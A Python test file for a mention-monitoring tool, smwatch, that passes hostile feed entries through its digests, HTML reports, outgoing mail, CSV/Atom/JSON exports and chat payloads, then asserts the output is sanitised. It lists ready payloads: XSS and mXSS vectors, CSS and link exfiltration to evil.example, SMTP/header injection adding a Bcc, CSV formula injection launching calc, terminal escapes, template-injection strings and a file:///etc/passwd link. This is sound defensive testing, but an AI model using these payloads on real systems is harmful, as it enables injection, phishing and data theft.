"""What is made to hurt where it lands, by whoever reads what smwatch makes: entries that no other test holds.

All of them go through the command line, from a feed to whatever people receive, and are read back by strict parsers.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from email import message_from_bytes, policy
from email.message import EmailMessage
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from smwatch.delivery.harmless import harmless
from smwatch.locales import Speech
from smwatch.models import AlertChange, Change, Heard
from smwatch.notices import Told, payload
from smwatch.reports.exports.cells import defuse
from tests.delivery.server import Postbox, serving
from tests.desk import MAIL, MORNING, Desk
from tests.reports import story
from tests.reports.markup import read
from tests.server import FeedServer

HURT = [
    "Nordelait\r\nContent-Type: text/html\r\n\r\n<h1>owned</h1>",
    "Nordelait =?utf-8?b?DQpCY2M6IHRoaWVmQGV2aWwuZXhhbXBsZQ==?= lies",
    "Nordelait \u202e\u2067moc.live\u2069\u202c \u061c\u200f lies",
    "Nordelait \x1b[31;1m\x1b[?1049h\x9b2J\x1b]8;;https://evil.example\x07clic\x1b]8;;\x07 lies",
    "Nordelait \x1bP+q544e\x1b\\\x1b_Gf=100;AAAA\x1b\\ lies",
    "<style>@import url(//evil.example/a.css);*{background:url(https://evil.example/b)}</style>Nordelait lies",
    '<p style="background-image:url(https://evil.example/p.gif);position:fixed">Nordelait lies</p>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">Nordelait lies</a>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><animate onbegin=alert(1) /></svg>Nordelait lies',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>Nordelait lies",
    "Nordelait " + "W" * 200_000,
    "נורדלייט Nordelait שקרנים " * 40,
    "N\u200bo\u200cr\u200dd\u2060elait Nordelait \ufeff\u00ad lies",
    "Nordelait \x00\x01\x08\x0b\x7f\x85 lies \ud800 \ufffe",
    "Nordelait 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f 🇨🇦🇫🇷 👩‍👩‍👧‍👦 lies",
    "Nordelait " + "z\u0300\u0301\u0302\u0303" * 5_000 + " lies",
    '=HYPERLINK("https://evil.example","Nordelait")',
    "@SUM(1+1)*cmd|' /C calc'!A0 Nordelait",
    "]]></content><entry><title>Nordelait owned</title></entry><![CDATA[",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">Nordelait lies',
    "Nordelait {{ config }} ${7*7} {% raw %} %(password)s {0.__class__} lies",
    "Nordelait " + "t" * 1_000_000,
    "--=_boundary\r\n.\r\nMAIL FROM:<thief@evil.example>\r\nNordelait",
]
LINKS = [
    "javascript:alert(1)//a.example", "data:text/html,<script>1</script>", "https://a.example/\u202egpj.exe",
    'https://user:pass@a.example/"onclick="x', "vbscript:x", "https://a.example/a b\r\nSet-Cookie: x", "file:///etc/passwd",
]  # fmt: skip
TURNING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u206f\ud800-\udfff]")
DIGEST = """
[[digests]]
name = "matin"
to = ["rp@nordelait.example"]
"""


@pytest.fixture
def desk(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Iterator[Desk]:
    """A desk to which a feed has brought all of it."""
    items = [
        {
            "id": f"{number}", "url": LINKS[number % len(LINKS)], "title": text, "content_html": text,
            "tags": [text[:90]],
            "authors": [{"name": text[:5_000]}], "date_published": "2010-03-17T07:00:00Z",
        }
        for number, text in enumerate(HURT)
    ]  # fmt: skip
    with FeedServer() as server:
        desk = Desk(tmp_path, server, capsys)
        body = json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": HURT[3], "items": items}).encode()
        url = server.url("/feed.json")
        server.serve("/feed.json", body, content_type="application/feed+json")
        desk.config += f'\n[[feeds]]\nurl = "{url}"\nabout = ["Nordelait"]\n'
        assert desk.runs("scan --json").json["mentions"]["new"] == len(HURT)
        yield desk


def test_digest_and_report(desk: Desk) -> None:
    for lang in ("fr", "en"):
        said = desk.later(minutes=1).runs(f"digest --lang {lang}").out
        assert not TURNING.search(said)
        assert max(map(len, said.splitlines())) <= 1_000
        page = desk.runs(f"digest --html --lang {lang}").out
        assert not TURNING.search(page)
        assert len(page.encode()) <= 102 * 1024
        _harmless_links(read(page).links)
        assert "evil.example/" not in read(page).styles
        report = desk.runs(f"report --lang {lang} --since 2010-03-16 -o -").out or _written(desk, lang)
        assert not TURNING.search(report)
        assert not re.search(r"<(script|img|iframe|object|embed|link|base|form|math|animate)\b", report)
        assert not re.search(r"<[^>]*\son\w+\s*=", report)
        _harmless_links(re.findall(r'(?:href|src)="([^"#][^"]*)"', report))


def _written(desk: Desk, lang: str) -> str:
    path = desk.folder / "report.html"
    assert desk.runs(f"report --lang {lang} --since 2010-03-16 -o {path}").code == 0
    return path.read_text("utf-8")


def _harmless_links(links: list[str]) -> None:
    assert all(re.match(r"https?://", link) for link in links), links
    assert not any(TURNING.search(link) or '"' in link for link in links)


def test_the_mail_has_no_header_of_theirs(desk: Desk) -> None:
    postbox = Postbox()
    with serving(postbox) as port:
        desk.config += MAIL.format(port=port) + DIGEST
        assert desk.later(minutes=1).runs("digest --send").code == 0
    (envelope,) = postbox.received
    content = envelope.original_content or b""
    assert max(map(len, content.split(b"\r\n"))) <= 998
    mail = message_from_bytes(content, EmailMessage, policy=policy.SMTP)
    assert not mail.defects
    assert {name.lower() for name, _ in mail.items()} <= {
        "from", "to", "subject", "date", "message-id", "mime-version", "content-type", "list-id", "list-unsubscribe",
        "auto-submitted", "x-auto-response-suppress", "content-language",
    }  # fmt: skip
    assert [part.get_content_type() for part in mail.walk()] == ["multipart/alternative", "text/plain", "text/html"]
    assert [addr.addr_spec for addr in mail["To"].addresses] == ["rp@nordelait.example"]
    for part in mail.iter_parts():
        assert not TURNING.search(part.get_content())


def test_exports_and_feeds_read_back(desk: Desk) -> None:
    csv.field_size_limit(10_000_000)
    rows = list(csv.DictReader(io.StringIO(desk.runs("export mentions --format csv").out, newline="")))
    assert len(rows) == len(HURT)
    for row in rows:
        assert all(defuse(cell) == cell or cell.startswith("'") or _number(cell) for cell in row.values())
        assert not TURNING.search("".join(row.values()))
    lines = desk.runs("export mentions --format ndjson").out.splitlines()
    assert len([json.loads(line) for line in lines]) == len(HURT)
    feed = ET.fromstring(desk.runs("export mentions --format atom").out)
    entries = feed.findall("{http://www.w3.org/2005/Atom}entry")
    assert len(entries) == len(HURT)
    document = json.loads(desk.runs("export mentions --format jsonfeed").out)
    assert len(document["items"]) == len(HURT)
    _harmless_links([item["url"] for item in document["items"] if "url" in item])
    for entry, item in zip(entries, document["items"], strict=True):
        html = entry.findtext("{http://www.w3.org/2005/Atom}content") or ""
        assert set(re.findall(r"<\s*/?\s*([a-z]+)", html + item["content_html"])) <= {"p", "br"}
        assert not TURNING.search(html + item["content_text"] + item["title"])


def _number(cell: str) -> bool:
    return bool(re.fullmatch(r"-?\d+(\.\d+)?", cell))


@pytest.mark.parametrize("text", HURT, ids=range(len(HURT)))
def test_messages(text: str) -> None:
    heard = Heard(
        id="1", brand="Nordelait", fetched=MORNING, published=MORNING, source=text, author=text, thread="", lang="fr",
        title=text, text=text, score=-0.9, url=LINKS[len(text) % len(LINKS)],
    )  # fmt: skip
    told = Told(
        change=AlertChange(alert=story.CRISIS, change=Change.OPENED), subject="Nordelait: alert 3", lines=("x",),
        first=heard, lang="fr",
    )  # fmt: skip
    sent = payload(told, MORNING)
    assert sent.isascii()
    quote = json.loads(sent)["data"]["quote"]
    assert not TURNING.search("".join(str(value) for value in quote.values()))
    assert len(quote["text"]) <= 200
    _harmless_links([quote["url"]] if quote["url"] else [])
    chat = harmless(Speech("fr").quote(text[:500]))
    assert not TURNING.search(chat)
    assert not set("@<>*_[]`|\\&") & set(chat)
    assert "://" not in chat
